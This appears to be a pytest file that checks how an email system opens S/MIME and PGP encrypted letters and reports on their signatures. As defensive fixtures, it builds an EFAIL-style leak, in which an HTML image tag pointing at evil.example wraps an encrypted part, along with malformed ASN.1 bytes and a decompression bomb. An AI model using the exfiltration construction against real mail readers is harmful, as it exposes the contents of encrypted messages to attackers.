"""Sealed letters are opened with the keys that the desk was given, and signatures are told as what they are."""

from __future__ import annotations

import subprocess
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest

pytest.importorskip("pysequoia", reason="the extra `sealed` is not installed")
pytest.importorskip("asn1crypto", reason="the extra `sealed` is not installed")

import pysequoia
from sqlalchemy import select

from cherha import checks
from cherha.reading import key_folders
from core.cases.model import File
from core.errors import Misconfigured
from core.intake.letter import Letter
from core.intake.parse import parse
from core.settings import Settings
from core.texts.say import LANGUAGES, has
from tests.conftest import EVERYTHING
from tests.core.office import Office
from tests.workers.bombs import sealed_bomb
from tests.workers.letters import Post
from tests.workers.sealing import (
    DESK,
    EVE,
    IVAN,
    Identity,
    entity,
    identity,
    letter_of,
    multipart,
    part,
    pgp_folder,
    pgp_sealed,
    pgp_signed,
    smime_folder,
    smime_sealed,
    smime_signed,
    smime_within,
    tsk,
)
from workers.actors.understanding import understander
from workers.reading.readers import COMMAND, Readers
from workers.sealed.folder import Keys, read_keys
from workers.sealed.opening import open_letter

NOW = datetime.now(UTC)

#: Well over what is opened (`workers.sealed.pgp`); in the quick edition less well, for to pack it takes long.
BOMB_BYTES = (300 if EVERYTHING else 100) * 1024 * 1024

Read = Callable[..., tuple[Letter, tuple[str, ...]]]


@pytest.fixture
def read(tmp_path: Path) -> Read:
    """Open a letter as the process that reads does, knowing the keys of some."""

    def do(raw: bytes, *known: str | Identity) -> tuple[Letter, tuple[str, ...]]:
        certificates = [one for one in known if isinstance(one, Identity)]
        keys = [one for one in known if isinstance(one, str)]
        both = smime_folder(tmp_path / "smime", *certificates), pgp_folder(tmp_path / "pgp", *keys)
        opened, flags = open_letter(raw, read_keys(*both), NOW)
        assert all(has(flag, language) for flag in flags for language in LANGUAGES)
        letter = parse(opened)
        return letter, tuple(flag.removeprefix("flag.") for flag in (*letter.flags, *flags))

    return do


def test_what_is_in_a_sealed_letter_is_read_and_its_sender_is_who_stands_outside(read: Read) -> None:
    for seal in (smime_sealed, pgp_sealed):
        letter, flags = read(letter_of(seal(part("The printer is silent"))))
        assert (letter.own_words, flags) == ("The printer is silent", ("opened",))
        assert (letter.from_ and letter.from_.address, letter.subject) == (IVAN, "Printer")
        assert not letter.attachments


def test_files_within_are_files(read: Read) -> None:
    file = b'Content-Type: image/png; name="a.png"\r\nContent-Disposition: attachment\r\n\r\nPNG'
    for seal in (smime_sealed, pgp_sealed):
        letter, _ = read(letter_of(seal(multipart("mixed", part("Look"), file))))
        assert (letter.own_words, [one.name for one in letter.attachments]) == ("Look", ["a.png"])


def test_what_no_key_of_ours_opens_stays_as_it_was(read: Read) -> None:
    for sealed in (smime_sealed(part("x"), identity(EVE)), pgp_sealed(part("x"), to=EVE)):
        raw = letter_of(sealed)
        letter, flags = read(raw)
        assert flags == ("sealed",)
        assert letter.attachments


def test_without_keys_nothing_is_touched() -> None:
    for one in (smime_sealed(part("x")), pgp_sealed(part("x")), pgp_signed(part("x"), IVAN)):
        assert open_letter(letter_of(one), Keys(), NOW) == (letter_of(one), ())


@pytest.mark.parametrize("seal", [smime_sealed, pgp_sealed])
def test_a_sealed_part_beside_others_is_never_opened(read: Read, seal: Callable[[bytes], bytes]) -> None:
    leak = part('<img src="http://evil.example/', "text/html")
    letter, flags = read(letter_of(multipart("mixed", leak, seal(part("The secret")), part('">', "text/html"))))
    assert flags == ("sealed",)
    assert "secret" not in letter.text + (letter.html or "")


SIGNED: dict[str, Callable[[bytes, str], bytes]] = {
    "smime, beside": lambda content, by: smime_signed(content, identity(by)),
    "smime, around": lambda content, by: smime_within(content, identity(by)),
    "pgp, beside": pgp_signed,
    "pgp, sealed": pgp_sealed,
    "smime, sealed": lambda content, by: smime_sealed(smime_signed(content, identity(by))),
}


@pytest.mark.parametrize("how", SIGNED)
def test_who_signed_is_told(read: Read, how: str) -> None:
    opened = ("opened",) if "sealed" in how else ()
    sign = SIGNED[how]
    everybody = IVAN, EVE, identity(IVAN), identity(EVE)
    right = read(letter_of(sign(part("Hello"), IVAN)), *everybody)
    assert (right[0].own_words, right[1]) == ("Hello", (*opened, "signature_right"))
    other = read(letter_of(sign(part("Hello"), EVE)), *everybody)
    assert (other[0].own_words, other[1]) == ("Hello", (*opened, "signature_other"))


@pytest.mark.parametrize("how", SIGNED)
def test_a_key_that_nobody_knows_proves_nothing(read: Read, how: str) -> None:
    letter, flags = read(letter_of(SIGNED[how](part("Hello"), EVE), EVE), identity(IVAN), IVAN)
    assert (letter.own_words, flags[-1]) == ("Hello", "signature_unknown")


@pytest.mark.parametrize("how", ["smime, beside", "pgp, beside"])
def test_a_letter_that_was_changed_is_told_of(read: Read, how: str) -> None:
    raw = letter_of(SIGNED[how](part("Pay 10"), IVAN)).replace(b"Pay 10", b"Pay 99")
    letter, flags = read(raw, IVAN, identity(IVAN))
    assert (letter.own_words, flags) == ("Pay 99", ("signature_broken",))


def test_lines_that_end_otherwise_break_no_signature(read: Read) -> None:
    raw = letter_of(pgp_signed(part("One\r\nTwo"), IVAN)).replace(b"\r\n", b"\n")
    assert read(raw, IVAN)[1] == ("signature_right",)


def test_who_is_issued_by_an_authority_that_the_desk_knows_is_known(read: Read) -> None:
    by = identity(IVAN, "authority@example.com")
    raw = letter_of(smime_signed(part("Hello"), by))
    assert read(raw, identity("authority@example.com", authority=True))[1] == ("signature_right",)


def test_a_customer_whose_certificate_may_issue_others_vouches_for_nobody_else(read: Read) -> None:
    of_eve = identity(EVE, by_person=True)
    raw = letter_of(smime_within(part("Hello"), identity(IVAN, issuer=EVE, by_person=True)))
    assert read(raw, of_eve)[1] == ("signature_unknown",)
    own = letter_of(smime_within(part("Hello"), of_eve), sender=EVE)
    assert read(own, of_eve)[1] == ("signature_right",)


def test_a_certificate_that_has_run_out_or_of_no_authority_is_not_known(read: Read) -> None:
    late = identity("late@example.com", days=-1)
    raw = letter_of(smime_signed(part("Hello"), late), "late@example.com")
    assert read(raw, late)[1] == ("signature_unknown",)


def test_text_that_is_armoured_whole_is_opened_or_checked(read: Read) -> None:
    sealed = pysequoia.encrypt(recipients=[tsk(DESK).extract_certificate()], bytes="Привіт".encode())
    letter, flags = read(letter_of(b"Content-Type: text/plain\r\n\r\n" + sealed))
    assert (letter.own_words, flags) == ("Привіт", ("opened",))
    letter, flags = read(letter_of(b"Content-Type: text/plain\r\n\r\nBefore\r\n" + sealed))
    assert flags == ("sealed",), "what stands before it may be somebody else's"
    clear = pysequoia.sign(tsk(IVAN).signer(), b"Hello", mode=pysequoia.SignatureMode.CLEAR)
    letter, flags = read(letter_of(b"Content-Type: text/plain\r\n\r\n" + clear), IVAN)
    assert (letter.own_words, flags) == ("Hello", ("signature_right",))
    changed = letter_of(b"Content-Type: text/plain\r\n\r\n" + clear.replace(b"Hello", b"Hullo"))
    assert "signature_broken" in read(changed, IVAN)[1]


@pytest.mark.parametrize("also", [["-stream"], []])
def test_letters_of_other_programs_are_opened_and_checked(read: Read, tmp_path: Path, also: list[str]) -> None:
    (tmp_path / "ivan.pem").write_bytes(identity(IVAN).pem + identity(IVAN).key_pem)
    (tmp_path / "to.pem").write_bytes(identity(DESK).pem)
    (tmp_path / "letter").write_bytes(part("Hello"))
    how = ["openssl", "cms", "-sign", "-binary", "-nodetach", *also, "-signer", "ivan.pem", "-outform", "DER"]
    subprocess.run([*how, "-in", "letter", "-out", "signed"], cwd=tmp_path, check=True, capture_output=True)
    (tmp_path / "inner").write_bytes(entity("application/pkcs7-mime", (tmp_path / "signed").read_bytes()))
    how = [
        "openssl",
        "cms",
        "-encrypt",
        "-binary",
        "-aes256",
        *also,
        "-in",
        "inner",
        "-out",
        "sealed",
        "-outform",
        "DER",
    ]
    subprocess.run([*how, "to.pem"], cwd=tmp_path, check=True, capture_output=True)
    raw = letter_of(entity("application/pkcs7-mime", (tmp_path / "sealed").read_bytes()))
    letter, flags = read(raw, identity(IVAN))
    assert (letter.own_words, flags) == ("Hello", ("opened", "signature_right"))


@pytest.mark.parametrize(
    ("how", "wrap"),
    [
        (["-aes256"], ["rsa_padding_mode:oaep"]),
        (["-aes-192-cbc"], []),
        (["-aes-256-gcm"], ["rsa_padding_mode:oaep", "rsa_oaep_md:sha256"]),
        (["-aes-128-gcm", "-stream"], []),
        (["-aes-256-gcm", "-keyid", "-stream"], []),
    ],
)
def test_whatever_way_is_used_today_is_opened(read: Read, tmp_path: Path, how: list[str], wrap: list[str]) -> None:
    (tmp_path / "other.pem").write_bytes(identity(EVE).pem)
    (tmp_path / "to.pem").write_bytes(identity(DESK).pem)
    (tmp_path / "letter").write_bytes(part("Hello"))
    words = ["openssl", "cms", "-encrypt", "-binary", *how, "-in", "letter", "-out", "sealed", "-outform", "DER"]
    options = [word for one in wrap for word in ("-keyopt", one)]
    to = ["-recip", "other.pem", "-recip", "to.pem", *options]
    subprocess.run([*words, *to], cwd=tmp_path, check=True, capture_output=True)
    sealed = (tmp_path / "sealed").read_bytes()
    letter, flags = read(letter_of(entity("application/pkcs7-mime", sealed)))
    assert (letter.own_words, flags) == ("Hello", ("opened",))
    if "gcm" in how[0]:
        at = sealed.rindex(b"\x04\x10") + 5  # within the proof that nothing was changed
        broken = bytes([*sealed[:at], sealed[at] ^ 1, *sealed[at + 1 :]])
        assert read(letter_of(entity("application/pkcs7-mime", broken)))[1] == ("sealed",)


def test_layers_end(read: Read) -> None:
    raw = part("Deep")
    for _ in range(10):
        raw = pgp_sealed(raw)
    letter, flags = read(letter_of(raw))
    assert flags == ("sealed", "opened")
    assert letter.attachments


@pytest.mark.parametrize("nasty", [b"\x30\x80" * 20_000, b"\x24\x80" * 20_000, b"\xa0\x84\xff\xff\xff\xff", b"", b"\0"])
def test_hostile_bytes_are_a_sealed_letter(read: Read, nasty: bytes) -> None:
    for kind in ("application/pkcs7-mime", "application/octet-stream"):
        raw = letter_of(entity(kind, nasty))
        read(raw)
    beside = entity("application/pkcs7-signature", nasty)
    letter, _ = read(letter_of(multipart("signed", part("Hello"), beside)))
    assert letter.own_words == "Hello"
    beside = entity("application/pgp-signature", nasty)
    letter, _ = read(letter_of(multipart("signed", part("Hello"), beside)))
    assert letter.own_words == "Hello"
    version = b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
    read(letter_of(multipart("encrypted", version, entity("application/octet-stream", nasty))))


def test_the_desk_reads_what_came_sealed_and_says_so(office: Office, tmp_path: Path) -> None:
    office.join("Olena")
    folders = str(smime_folder(tmp_path / "smime")), str(pgp_folder(tmp_path / "pgp", IVAN))
    readers = Readers(command=(*COMMAND, *folders))
    post = Post(office, tmp_path / "files")
    post.understand = understander(office.desk, post.files, readers)
    try:
        file = b'Content-Type: image/png; name="a.png"\r\nContent-Disposition: attachment\r\n\r\nPNG'
        row = post.bring(letter_of(pgp_sealed(multipart("mixed", part("Глухо"), file), IVAN)))
        (entry,) = post.entries(row.work_id)
        assert (entry.text, entry.flags) == ("Глухо", ["flag.opened", "flag.signature_right"])
        names = office.desk.look(lambda tx: list(tx.session.scalars(select(File.name))))
        assert names == ["a.png"]
        plain = post.bring(letter_of(b"Content-Type: text/plain\r\n\r\nHello"))
        assert post.entries(plain.work_id)[-1].flags == []
    finally:
        readers.close()


def _of_pgp(message: bytes) -> bytes:
    version = b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
    return multipart("encrypted", version, entity("application/octet-stream", message))


def test_a_bomb_is_a_sealed_letter(office: Office, tmp_path: Path) -> None:
    office.join("Olena")
    readers = Readers(command=(*COMMAND, "", str(pgp_folder(tmp_path / "pgp"))))
    post = Post(office, tmp_path / "files")
    post.understand = understander(office.desk, post.files, readers)
    try:
        row = post.bring(letter_of(_of_pgp(sealed_bomb(tsk(DESK).extract_certificate(), BOMB_BYTES))))
        (entry,) = post.entries(row.work_id)
        assert entry.flags == ["flag.sealed"]
        assert post.entries(post.bring(letter_of(pgp_sealed(part("Hello")))).work_id)[-1].text == "Hello"
    finally:
        readers.close()


def test_faulty_keys_stop_the_start_with_a_sentence(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    (tmp_path / "alone").mkdir()
    (tmp_path / "alone" / "key.pem").write_bytes(identity(DESK).key_pem + identity(IVAN).pem)
    (tmp_path / "junk").mkdir()
    junk = "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\nsecret\n-----END PGP PRIVATE KEY BLOCK-----\n"
    (tmp_path / "junk" / "key.asc").write_text(junk)
    for smime, pgp, told in (("empty", "junk", "key.asc has a key"), ("alone", None, "no certificate for the key")):
        settings = Settings(smime_keys=tmp_path / smime, pgp_keys=tmp_path / pgp if pgp else None)
        with pytest.raises(Misconfigured) as caught:
            key_folders(settings)
        assert told in str(caught.value)
        assert "secret" not in str(caught.value)


def test_keys_are_found_where_they_are(tmp_path: Path) -> None:
    folder = smime_folder(tmp_path / "smime")
    assert key_folders(Settings(smime_keys=folder)) == (str(folder), "")
    assert key_folders(Settings()) == ()


def test_doctor_counts_the_keys_and_tells_what_is_wrong_with_them(tmp_path: Path) -> None:
    late = identity("late@example.com", days=-1)
    folders = {"smime_keys": smime_folder(tmp_path / "s", late), "pgp_keys": pgp_folder(tmp_path / "p", IVAN)}
    smime, run_out, pgp = checks.sealed(Settings(**folders))
    assert (smime.verdict, run_out.verdict, pgp.verdict) == ("fine", "note", "fine")
    assert ("1 keys, 2 certificates" in smime.told, "1 secret keys, 2 known" in pgp.told) == (True, True)
    (none,) = checks.sealed(Settings())
    assert none.verdict == "fine"
    (tmp_path / "p" / "desk.asc").unlink()
    (tmp_path / "p" / "known0.asc").unlink()
    (*_, fault) = checks.sealed(Settings(**folders))
    assert (fault.verdict, "CHERHA_PGP_KEYS" in fault.told) == ("fault", True)
